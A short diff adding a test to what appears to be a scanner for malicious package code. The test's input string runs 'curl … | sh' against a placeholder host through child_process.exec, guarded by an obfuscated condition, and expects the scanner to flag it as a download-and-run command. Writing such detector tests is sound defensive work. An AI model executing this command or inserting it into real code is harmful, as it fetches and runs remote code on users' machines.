@@ -155,3 +155,8 @@ describe('what another file calls as soon as that is loaded', () => {
     expect(await saidOf(files({ bin: 'start.js' }))).not.toContain('installs-hidden-packages/quiet');
   });
 });
+
+test('a condition that asks for nothing at all stops no rule', async () => {
+  const code = `if (String() || Number()) require('child_process').exec('curl -s http://stage.invalid/x | sh');`;
+  expect(await saidOf({ 'index.js': code })).toContain('runs-harmful-command/download-run');
+});
